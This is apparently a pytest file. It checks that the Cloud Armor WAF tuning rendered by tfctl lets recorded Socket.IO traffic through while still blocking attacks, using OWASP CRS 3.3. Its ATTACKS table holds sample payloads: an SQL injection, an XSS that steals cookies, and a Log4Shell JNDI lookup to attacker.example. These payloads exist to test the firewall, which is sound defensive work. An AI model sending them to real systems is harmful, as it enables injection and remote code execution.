"""The Cloud Armor WAF rules tfctl renders, against the reference server's real traffic.

A recording proxy captures every HTTP request real python-socketio clients send to the real server (polling handshake,
CONNECT with a signed token, events and acknowledgements over long-polling, the WebSocket upgrade); the requests are
replayed through OWASP CRS 3.3 in libmodsecurity (crs.py), at the sensitivity and with the opt-outs of the
rendered security.tf. The rendered tuning must be exactly what that traffic needs: nothing it sends is denied, and
every opt-out is needed by some request. And an attack in a polling body is still denied."""
import asyncio
import itertools
import os
import pathlib
import re
import shutil
import subprocess
import time

import hcl2
import jwt
import pytest
import socketio

from capture import RecordingProxy
from conftest import BINARY, PUBLISH_TOKEN, REQUIRE_TOOLS, ROOT, Server
from crs import RULE_SETS, RULES_DIRECTORY, Engine, Policy, Request
from test_auth import AUDIENCE, ISSUER, PUBLIC_PEM, RSA_KEY

TFCTL = pathlib.Path(os.environ.get("TFCTL", pathlib.Path(BINARY).with_name("tfctl")))
SIGNATURE_PREFIX = "owasp-crs-v030301-id"


@pytest.fixture(scope="module")
def crs():
    if not pathlib.Path(RULES_DIRECTORY).is_dir():
        message = "OWASP CRS 3.3 (Debian modsecurity-crs) and libmodsecurity3 are not installed"
        if REQUIRE_TOOLS:
            pytest.fail(f"{message}, and TFCTL_REQUIRE_ORACLES=1 requires them")
        pytest.skip(f"SKIPPED: {message}")
    return {level: Engine(level) for level in range(1, 5)}


def token():
    """A signed token whose base64url holds `--` and a later `-` (about one in a dozen do, at random): CRS reads that
    as an SQL comment (942440), and the capture must hold what production traffic holds now and then."""
    for serial in itertools.count():
        claims = {"sub": "alice", "iss": ISSUER, "aud": AUDIENCE, "exp": int(time.time()) + 300, "tenders": ["42"],
                  "jti": str(serial)}
        signed = jwt.encode(claims, RSA_KEY, algorithm="RS256", headers={"kid": "rs256"})
        if re.search(r"--[^-]*-", signed):
            return signed


async def session(url, transports):
    """What a TenderFlow browser tab does: connect with its token, subscribe, join presence, type, list, leave."""
    sio = socketio.AsyncClient(reconnection=False)
    await sio.connect(url, namespaces=["/tenders", "/system"], auth={"token": token()}, transports=transports,
                      wait_timeout=5)
    assert (await sio.call("subscribe", {"tenderId": "42"}, namespace="/tenders", timeout=5))["ok"]
    joined = await sio.call("presence:join", {"tenderId": "42", "mode": "editing"}, namespace="/tenders", timeout=5)
    assert joined["ok"]
    await sio.emit("typing", {"tenderId": "42", "typing": True}, namespace="/tenders")
    assert (await sio.call("presence:list", {"tenderId": "42"}, namespace="/tenders", timeout=5))["ok"]
    assert (await sio.call("presence:leave", {"tenderId": "42"}, namespace="/tenders", timeout=5)) is not None
    await asyncio.sleep(0.4)  # a heartbeat or two (the suites' 300 ms ping interval): PING, PONG, polls
    await sio.disconnect()


@pytest.fixture(scope="module")
def traffic():
    server = Server("tenderflow", JWT_RS256_PUBLIC_KEY=PUBLIC_PEM, JWT_ISSUER=ISSUER, JWT_AUDIENCE=AUDIENCE,
                    PUBLISH_TOKEN=PUBLISH_TOKEN)
    proxy = RecordingProxy(server.port)
    try:
        for transports in (["polling"], ["polling", "websocket"]):
            asyncio.run(session(proxy.url, transports))
    finally:
        proxy.close()
        server.stop()
    requests = list(proxy.requests)
    methods = {(request.method, "transport=websocket" in request.target) for request in requests}
    assert {("GET", False), ("POST", False), ("GET", True)} <= methods, methods
    assert any(b'"token"' in request.body for request in requests), "the CONNECT with its token was not captured"
    return requests


def unquoted(value):
    """python-hcl2 (5 and later) keeps the quotes of keys and strings: drop them."""
    if isinstance(value, dict):
        return {unquoted(key): unquoted(item) for key, item in value.items()}
    if isinstance(value, list):
        return [unquoted(item) for item in value]
    if isinstance(value, str) and len(value) >= 2 and value[0] == value[-1] == '"':
        return value[1:-1]
    return value


def render_policy(tmp_path, environment):
    """The WAF rules of the rendered security.tf, as a crs.Policy."""
    out = tmp_path / "out"
    subprocess.run([str(TFCTL), "render", "--chdir", str(ROOT), "--env", str(environment), "--out", str(out)],
                   check=True, capture_output=True)
    with open(out / "terraform" / "security.tf") as file:
        policy = unquoted(hcl2.load(file))["resource"]
    armor = next(block["google_compute_security_policy"]["armor"] for block in policy
                 if "google_compute_security_policy" in block)
    sensitivities, rule_sets, opt_outs = set(), [], {}
    for rule in armor["rule"]:
        expression = rule["match"][0].get("expr", [{}])[0].get("expression", "")
        if not expression.startswith("evaluatePreconfiguredWaf("):
            continue
        assert rule["action"] == "deny(403)" and not rule.get("preview", False), rule
        name = expression.split("'")[1]
        rule_sets.append(name)
        if name == "cve-canary":
            continue
        sensitivities.add(int(expression.split("'sensitivity': ")[1].split(",")[0].rstrip("})")))
        ids = [part.split("-")[3].removeprefix("id") for part in expression.split("'")
               if part.startswith(SIGNATURE_PREFIX)]
        opt_outs[name] = set(ids)
    assert len(sensitivities) == 1, sensitivities
    return Policy(sensitivity=sensitivities.pop(), rule_sets=rule_sets, opt_outs=opt_outs)


def environment_with(tmp_path, sensitivity):
    """A copy of the shipped base with every CRS rule set at `sensitivity`."""
    shutil.copy(ROOT / "Environments" / "base.yaml", tmp_path / "base.yaml")
    sets = ", ".join([*RULE_SETS, "cve-canary"])
    path = tmp_path / f"waf-{sensitivity}.yaml"
    path.write_text(f"extends: base.yaml\nload_balancer:\n  waf: {{ sensitivity: {sensitivity}, rule_sets: [{sets}] }}\n")
    return path


def hits_of(engine, requests):
    return {hit: request for request in requests for hit in engine.evaluate(request)}


CASES = [("shipped", None)] + [("sensitivity", level) for level in range(1, 5)]


@pytest.mark.parametrize("kind,level", CASES, ids=[f"{kind}-{level or ''}".rstrip("-") for kind, level in CASES])
def test_rendered_tuning_is_exactly_what_socketio_traffic_needs(crs, traffic, tmp_path, kind, level):
    environment = ROOT / "Environments" / "prod.yaml" if kind == "shipped" else environment_with(tmp_path, level)
    policy = render_policy(tmp_path, environment)
    assert "cve-canary" in policy.rule_sets
    hits = hits_of(crs[policy.sensitivity], traffic)
    blocked = policy.blocked(hits)
    assert not blocked, "denied: " + "; ".join(
        f"{hit.rule_id} on {hit.variable} of {hits[hit].method} {hits[hit].target}" for hit in sorted(
            blocked, key=lambda hit: hit.rule_id))
    for rule_set, ids in policy.opt_outs.items():
        for rule_id in ids:
            narrower = Policy(policy.sensitivity, policy.rule_sets,
                              {**policy.opt_outs, rule_set: ids - {rule_id}})
            assert narrower.blocked(hits), f"{rule_set} opts out of {rule_id}, which no captured request needs"


ATTACKS = {
    "sqli": ('42/tenders,1["subscribe",{"tenderId":"42\' OR \'1\'=\'1"}]', "sqli-v33-stable"),
    "xss": ('42/tenders,["typing",{"tenderId":"<script>alert(document.cookie)</script>"}]', "xss-v33-stable"),
    # CVE-2021-44228: cve-canary's signatures are unpublished and CRS 3.3 has no Log4j rule (crs.py), but the
    # lookup is also a Unix shell expression, which rce-v33-stable denies.
    "log4j": ('42/tenders,["typing",{"tenderId":"${jndi:ldap://attacker.example/a}"}]', "rce-v33-stable"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("level", range(1, 5))
def test_attacks_in_a_polling_body_are_still_denied(crs, traffic, tmp_path, attack, level):
    policy = render_policy(tmp_path, environment_with(tmp_path, level))
    post = next(request for request in traffic if request.method == "POST" and request.body.startswith(b"42"))
    payload, rule_set = ATTACKS[attack]
    forged = Request(post.method, post.target, post.headers, payload.encode())
    denied = policy.blocked(crs[policy.sensitivity].evaluate(forged))
    assert any(hit.rule_set == rule_set and hit.field == ("body", None) for hit in denied), \
        sorted((hit.rule_id, hit.variable) for hit in denied)
